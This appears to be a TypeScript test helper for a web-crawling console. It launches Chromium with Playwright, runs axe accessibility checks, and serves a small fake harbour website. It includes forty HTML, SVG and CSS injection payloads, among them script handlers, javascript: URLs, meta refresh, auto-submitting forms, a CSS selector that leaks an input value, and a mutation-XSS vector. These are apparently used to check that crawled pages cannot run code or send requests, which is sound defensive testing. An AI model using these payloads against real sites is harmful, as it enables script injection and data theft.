/** A browser for the console, a site to crawl, and a page that attacks its viewer. */
import { readFileSync } from 'node:fs'
import { mkdir, mkdtemp, rm } from 'node:fs/promises'
import { createRequire } from 'node:module'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { findBrowser } from '@tidemark/browser/executable'
import type { Page as SitePage } from '@tidemark/testing/origin'
import { isFullTier } from '@tidemark/testing/tier'
import { chromium, type Page } from 'playwright-core'
import type { Test } from 'tap'
import { sharedBin } from './system.ts'

/** Opens a page in a Chromium of its own, and collects its errors. */
export async function openBrowser(t: Test): Promise<{ page: Page; faults: string[] }> {
  const home = await mkdtemp(join(tmpdir(), 'tidemark-console-'))
  t.teardown(() => rm(home, { recursive: true, force: true }))
  const named = process.env.CHROMIUM_PATH ?? ''
  const { path, env } = await findBrowser({ named, home: process.env.BROWSER_HOME ?? sharedBin() })
  const browser = await chromium.launch({
    executablePath: path,
    chromiumSandbox: process.getuid?.() !== 0,
    env: { ...env, PATH: process.env.PATH ?? '', HOME: home, LANG: 'C.UTF-8' },
  })
  t.teardown(() => browser.close())
  const page = await browser.newPage({ viewport: { width: 1280, height: 900 } })
  const faults: string[] = []
  page.on('pageerror', error => faults.push(error.message))
  page.on('console', message => {
    if (message.type() === 'error') faults.push(message.text())
  })
  return { page, faults }
}

const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')
type Violation = { id: string; nodes: { target: string[]; failureSummary: string }[] }

const desk = { size: 'desk', width: 1280, height: 900 }
const phone = { size: 'phone', width: 390, height: 844 }
/** Both sizes and both themes. The full tier has all four combinations. */
const views = [
  { ...desk, theme: 'light' as const },
  { ...phone, theme: 'dark' as const },
  ...(isFullTier
    ? [
        { ...desk, theme: 'dark' as const },
        { ...phone, theme: 'light' as const },
      ]
    : []),
]
const shots = process.env.CONSOLE_SHOTS

/**
 * Returns a function that checks the accessibility and the width of the current screen in each view. It also takes
 * pictures, if `CONSOLE_SHOTS` is a folder.
 */
export const looksOf =
  (page: Page) =>
  async (t: Test, name: string): Promise<void> => {
    if (shots) await mkdir(shots, { recursive: true })
    for (const { size, width, height, theme } of views) {
      await page.setViewportSize({ width, height })
      await page.emulateMedia({ colorScheme: theme, reducedMotion: 'reduce' })
      const path = shots && join(shots, `${name}-${size}-${theme}.png`)
      if (path) await page.screenshot({ path, fullPage: true })
      t.strictSame(await violationsOf(page), [], `${name}, ${size}, ${theme}`)
      const overflow = await page.evaluate('document.documentElement.scrollWidth - innerWidth')
      t.ok(Number(overflow) <= 0, `${name} is not wider than the ${size}`)
    }
    await page.setViewportSize(desk)
  }

/** Returns the violations of the current screen, each with its first element. */
async function violationsOf(page: Page): Promise<string[]> {
  if (!(await page.evaluate(`'axe' in window`))) await page.evaluate(axe)
  const options = JSON.stringify({ iframes: false, resultTypes: ['violations'] })
  const found = (await page.evaluate(
    `axe.run(document, ${options}).then(({ violations }) => violations)`,
  )) as Violation[]
  return found.map(({ id, nodes }) => `${id}: ${nodes[0]?.target.join(' ')} ${nodes[0]?.failureSummary}`)
}

const filler = (name: string, n: number) =>
  `<p>${`${name} has a quay, a light and a gauge, and its tides are read twice a day. `.repeat(n)}</p>`

/** A small site with redirects, an error, a page that robots.txt excludes, and one that changes. */
export function siteOf(version: number, attack: string): Record<string, SitePage> {
  const harbours = ['Aberdour', 'Burghead', 'Crail', 'Dunbar', 'Eyemouth', 'Findhorn', 'Gourdon', 'Hopeman']
  const pages = harbours.map((name, n): [string, SitePage] => [
    `/harbour/${name.toLowerCase()}`,
    `<!doctype html><html lang="en"><title>${name} harbour</title><meta name="description" content="Tides of ${name}">
     <h1>${name}</h1>${filler(name, n + 3)}<a href="/">All harbours</a> <a href="/tides">Tides</a>`,
  ])
  const links = pages.map(([path]) => `<li><a href="${path}">${path.slice(9)}</a></li>`).join('')
  return {
    '/robots.txt': { headers: { 'content-type': 'text/plain' }, body: 'User-agent: *\nDisallow: /private\n' },
    '/': `<!doctype html><html lang="en"><title>Harbours</title><h1>Harbours</h1><ul>${links}</ul>
      <a href="/tides">Tides</a> <a href="/old">Old address</a> <a href="/private/log">Log</a>
      <a href="/missing">Missing</a> <a href="/redirect-loop/a">Broken</a> <a href="/attack">Notes</a>`,
    '/tides': `<!doctype html><html lang="en"><title>Tides</title><h1>Tides</h1>
      <p>High water at ${version === 1 ? '06:12' : '06:58'}.</p><p>Low water at 12:30.</p>${version === 1 ? '' : '<p>A storm warning is in force.</p>'}`,
    '/old': { status: 301, headers: { location: '/tides' } },
    '/attack': attack,
    ...Object.fromEntries(pages),
    ...(version === 1 ? {} : { '/harbour/isle': '<title>Isle</title><h1>Isle of May</h1><p>New.</p>' }),
  }
}

/** Forty ways in which a page can run code, load, send or navigate, each to this address. */
export function attacksOn(at: string): string[] {
  const js = `fetch('${at}/js');new Image().src='${at}/img-js'`
  return [
    `<script>${js}</script>`,
    `<script src="${at}/script.js"></script>`,
    `<script type="module" src="${at}/module.js"></script>`,
    `<img src="${at}/img.png">`,
    `<img src=x onerror="${js}">`,
    `<img srcset="${at}/set.png 1x">`,
    `<picture><source srcset="${at}/source.png"><img alt=""></picture>`,
    `<svg onload="${js}"></svg>`,
    `<svg><script>${js}</script></svg>`,
    `<svg><image href="${at}/svg.png"/></svg>`,
    `<svg><use href="${at}/use.svg#x"/></svg>`,
    `<svg><a><animate attributeName="href" values="javascript:${js}"/></a></svg>`,
    `<svg><foreignObject><iframe src="${at}/foreign"></iframe></foreignObject></svg>`,
    `<iframe src="${at}/frame"></iframe>`,
    `<iframe srcdoc="<script>${js.replaceAll('"', '')}</script><img src='${at}/srcdoc.png'>"></iframe>`,
    `<object data="${at}/object"></object>`,
    `<embed src="${at}/embed">`,
    `<video src="${at}/video" poster="${at}/poster"></video>`,
    `<audio src="${at}/audio" autoplay></audio>`,
    `<video><track default src="${at}/track"></video>`,
    `<link rel="stylesheet" href="${at}/style.css">`,
    `<link rel="preload" as="image" href="${at}/preload.png">`,
    `<link rel="prefetch" href="${at}/prefetch">`,
    `<link rel="preconnect" href="${at}">`,
    `<link rel="dns-prefetch" href="${at}">`,
    `<link rel="icon" href="${at}/icon.png">`,
    `<style>@import "${at}/import.css"; body { background: url(${at}/background.png) }</style>`,
    `<style>@font-face { font-family: x; src: url(${at}/font) } p { font-family: x }</style>`,
    `<style>input[value^="t"] { background: url(${at}/exfiltrated) }</style><input value="tmk_">`,
    `<p style="background: url(${at}/inline.png)">text</p>`,
    `<table background="${at}/table.png"><tr><td>cell</td></tr></table>`,
    `<meta http-equiv="refresh" content="0;url=${at}/refresh">`,
    `<base href="${at}/">`,
    `<form id="f" action="${at}/form" method="post"><input name="x"><button autofocus>go</button></form>`,
    `<form action="javascript:${js}"><input autofocus onfocus="this.form.submit()"></form>`,
    `<a href="${at}/top" target="_top" autofocus onfocus="this.click()">top</a>`,
    `<a href="javascript:${js}" ping="${at}/ping">link</a>`,
    `<details open ontoggle="${js}"><summary>x</summary></details>`,
    `<math><mtext><table><mglyph><style><img src="${at}/mutation" onerror="${js}"></style></mglyph></table></mtext></math>`,
    `<template><img src="${at}/template.png"></template><noscript><img src="${at}/noscript.png"></noscript>`,
  ]
}

export const attackPage = (at: string): string =>
  `<!doctype html><html lang="en"><title>Notes</title><h1>Notes of the harbour</h1>${attacksOn(at).join('\n')}<p>The end.</p>`
